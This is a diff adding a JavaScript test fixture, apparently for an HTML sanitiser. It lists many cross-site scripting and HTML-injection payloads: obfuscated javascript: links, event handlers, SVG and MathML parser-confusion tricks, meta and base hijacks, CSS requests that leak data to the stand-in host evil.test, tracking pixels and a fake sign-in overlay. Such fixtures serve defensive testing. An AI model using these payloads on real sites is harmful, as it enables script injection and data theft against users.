@@ -1,0 +1,158 @@
+/**
+ * What people have written into HTML to make a reader's browser do something: run a script, ask another server, go
+ * elsewhere, cover a page. `RUN` is what would set `window.ran`; EVIL is a server that nobody may ask.
+ */
+const RUN = "window.top.ran=window.ran=1";
+const EVIL = "http://evil.test";
+
+const ENTITIES = [...`javascript:${RUN}`].map((sign) => `&#${sign.charCodeAt(0)};`).join("");
+const PADDED = [...`javascript:${RUN}`].map((sign) => `&#${String(sign.charCodeAt(0)).padStart(7, "0")}`).join("");
+const BASE64 = Buffer.from(`<script>${RUN}</script>`).toString("base64");
+
+const LINKS = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` \u0001javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `java&#0;script:${RUN}`,
+  `java&Tab;script&colon;${RUN}`,
+  `javascript&NewLine;:${RUN}`,
+  `&#106avascript:${RUN}`,
+  `&#x6A;avascript:${RUN}`,
+  ENTITIES,
+  PADDED,
+  `javascript://evil.test/%0a${RUN}`,
+  `//evil.test/" onclick="${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,${BASE64}`,
+  `data:image/svg+xml,<svg onload=${RUN}>`,
+  `vbscript:${RUN}`,
+  `feed:javascript:${RUN}`,
+  `view-source:javascript:${RUN}`,
+  `jar:${EVIL}!/x`,
+  `blob:${EVIL}/x`,
+  `filesystem:${EVIL}/x`,
+  `about:blank#${RUN}`,
+  `\u2028javascript:${RUN}`,
+  `ｊavascript:${RUN}`,
+].flatMap((address) => [`<a href="${address}">link</a>`, `<img src="${address}">`]);
+
+const SCRIPTS = [
+  `<script>${RUN}</script>`,
+  `<script src=${EVIL}/x.js></script>`,
+  `<ScRiPt/x>${RUN}</sCrIpT >`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  `<script\u0000>${RUN}</script>`,
+  `<script type=module>import("${EVIL}/x.js")</script>`,
+  `<body onload=${RUN}>x`,
+  `<p onclick=${RUN} onmouseover=${RUN} onpointerenter=${RUN}>x</p>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src=x:x onerror\u000c=${RUN}>`,
+  `<img src=x onerror\n=\n"${RUN}">`,
+  `<img """><script>${RUN}</script>">`,
+  `<img src='x' alt='\`><script>${RUN}</script>'>`,
+  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
+  `<input autofocus onfocus=${RUN}><textarea autofocus onfocus=${RUN}></textarea><select autofocus onfocus=${RUN}></select>`,
+  `<details open ontoggle=${RUN}>x</details><dialog open onclose=${RUN}></dialog>`,
+  `<marquee onstart=${RUN}>x</marquee><video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
+  `<video poster=${EVIL}/p><source src=${EVIL}/v onerror=${RUN}><track src=${EVIL}/t></video>`,
+  `<p style="animation-name:x" onanimationstart=${RUN}>x</p><style>@keyframes x{}</style>`,
+  `<p contenteditable autofocus onbeforeinput=${RUN} tabindex=0 accesskey=x onfocus=${RUN}>x</p>`,
+];
+
+const NAMESPACES = [
+  `<svg onload=${RUN}></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="${EVIL}/x.js"/></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml;base64,${BASE64}#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
+  `<svg><image href=${EVIL}/i.png /><feImage href=${EVIL}/f /></svg>`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
+  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${RUN}>//"></svg>`,
+  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></mglyph></form>`,
+  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
+  `<math><mi><style><![CDATA[</style><img src=x onerror=${RUN}>]]></mi></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<template><img src=x onerror=${RUN}></template><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
+  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
+  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed><noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
+  `<plaintext><img src=x onerror=${RUN}>`,
+  `<select><style></select><img src=x onerror=${RUN}></style>`,
+  `<table><tr><td><style></td></table><img src=x onerror=${RUN}></style>`,
+  `<p title="\u00a0</p><img src=x onerror=${RUN}>">x`,
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing><pre>\n\n&lt;script&gt;${RUN}&lt;/script&gt;</pre>`,
+  `<a title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;" href="https://far.test">x</a>`,
+  `<b title="a&amp;quot;&amp;gt;&amp;lt;script&amp;gt;${RUN}">x</b>`,
+  `<p id=body></p><img name=getElementById><form id=x><input name=parentNode></form><a id=ran href=x></a>`,
+];
+
+const COMMENTS = [
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<!---><script>${RUN}</script>-->`,
+  `<!-- --!><img src=x onerror=${RUN}>-->`,
+  `<!-- <!-- --><img src=x onerror=${RUN}> -->`,
+  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml-stylesheet href="javascript:${RUN}"?><?php echo "<script>${RUN}</script>" ?>`,
+  `<!DOCTYPE html [<!ENTITY x "<script>${RUN}</script>">]>&x;`,
+  `</body></html><script>${RUN}</script>`,
+  `</div></div></main></article><script>${RUN}</script>`,
+  `<a href="https://far.test/?x=<img src=x onerror=${RUN}>`,
+  `<img src="${EVIL}/steal?`,
+  `<a href='https://far.test/ <b title="'><img src=x onerror=${RUN}>">`,
+  `<p title='x" onclick="${RUN}'>x</p><p title=\`x\` onclick=${RUN}>y</p>`,
+  `<textarea><script>${RUN}</script>`,
+  `<style><script>${RUN}</script>`,
+];
+
+const REACHING = [
+  `<meta http-equiv=refresh content="0;url=${EVIL}/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv=Set-Cookie content="smartgroups.session_token=evil"><meta http-equiv=Content-Security-Policy content="script-src *">`,
+  `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `<base href=${EVIL}/><a href=x>link</a><img src=y>`,
+  `<base target=_self href="javascript:${RUN}//">`,
+  `<form action=${EVIL}/ id=f><input name=q><button>go</button></form><button form=f formaction="javascript:${RUN}">x</button>`,
+  `<form action=/sign-out method=post><button autofocus>x</button></form><input type=image src=${EVIL}/i>`,
+  `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
+  `<iframe src=${EVIL}/></iframe><frameset><frame src=${EVIL}/></frameset>`,
+  `<object data="data:text/html;base64,${BASE64}"></object><embed src=${EVIL}/x.swf><applet code=x>`,
+  `<link rel=stylesheet href=${EVIL}/x.css><link rel=prefetch href=${EVIL}/p><link rel=dns-prefetch href=//evil.test><link rel=preconnect href=${EVIL}>`,
+  `<link rel=import href=${EVIL}/><link rel=manifest href=${EVIL}/><link rel=icon href=${EVIL}/>`,
+  `<img src=${EVIL}/pixel.gif><img srcset="${EVIL}/1x 1x, ${EVIL}/2x 2x"><picture><source srcset=${EVIL}/s><img src=x></picture>`,
+  `<img src=//evil.test/pixel><img src="\\\\evil.test\\pixel"><img src="/\\evil.test/pixel">`,
+  `<img lowsrc=${EVIL}/l dynsrc=${EVIL}/d longdesc=${EVIL}/g><body background=${EVIL}/b><table background=${EVIL}/t><tr><td background=${EVIL}/c>x</table>`,
+  `<a href=https://far.test ping=${EVIL}/ping attributionsrc=${EVIL}/a>x</a>`,
+  `<img src="/sign-out"><img src="/g/readers/leave"><a href="/g/readers/leave">x</a><img src="../../sign-in">`,
+  `<bgsound src=${EVIL}/b><portal src=${EVIL}/><fencedframe src=${EVIL}/></fencedframe>`,
+  `<script type=speculationrules>{"prerender":[{"urls":["${EVIL}/"]}]}</script>`,
+  `<img src="cid:hostile@far.test"><a href="cid:hostile@far.test">x</a><iframe src="cid:hostile@far.test"></iframe>`,
+  `<img src="cid:hostile%40far.test"><img src="cid:"><img src="cid:../../sign-out"><img src="CID:hostile@far.test&quot; onerror=${RUN}">`,
+];
+
+const STYLES = [
+  `<style>@import url(${EVIL}/x.css);body{background:url(${EVIL}/b)}</style>`,
+  `<style>input[value^=a]{background:url(${EVIL}/a)}@font-face{font-family:x;src:url(${EVIL}/f)}</style>`,
+  `<p style="background:url(${EVIL}/u)">x</p><p style="background-image:url('${EVIL}/u')">x</p>`,
+  `<p style="background:\\75\\72\\6c(${EVIL}/u)">x</p><p style="background:u/**/rl(${EVIL}/u)">x</p>`,
+  `<p style="background:image-set('${EVIL}/u' 1x)">x</p><p style="content:url(${EVIL}/u);cursor:url(${EVIL}/u),auto">x</p>`,
+  `<p style="list-style:url(${EVIL}/u);border-image:url(${EVIL}/u);mask:url(${EVIL}/u);filter:url(${EVIL}/u#x)">x</p>`,
+  `<p style="--x:url(${EVIL}/u);background:var(--x)">x</p><p style="color:red;}body{background:url(${EVIL}/u)">x</p>`,
+  `<p style="font-family:'x';background:url(${EVIL}/u)">x</p><p style='font-family:"x\\";background:url(${EVIL}/u)'>x</p>`,
+  `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:white">Sign in again</p>`,
+  `<p style="width:expression(${RUN});behavior:url(${EVIL}/b.htc);-moz-binding:url(${EVIL}/b.xml#x)">x</p>`,
+  `<p style="margin:-5000px;transform:scale(99);float:left;opacity:0">x</p>`,
+  `<p class="button say" id=post>x</p><font color='red" onclick="${RUN}' face="x;background:url(${EVIL}/u)">x</font>`,
+];
+
+export const HOSTILE_HTML = [...LINKS, ...SCRIPTS, ...NAMESPACES, ...COMMENTS, ...REACHING, ...STYLES];
